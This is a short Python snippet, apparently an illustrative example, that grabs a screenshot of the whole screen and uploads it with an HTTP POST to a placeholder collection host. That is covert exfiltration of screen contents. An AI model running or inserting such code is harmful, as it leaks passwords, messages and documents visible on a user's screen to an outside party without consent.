# A picture of the screen is posted; runs: import
import io
import requests
from PIL import ImageGrab
buffer = io.BytesIO()
ImageGrab.grab().save(buffer, "PNG")
requests.post("https://collect.example.test/screen", files={"shot": buffer.getvalue()})
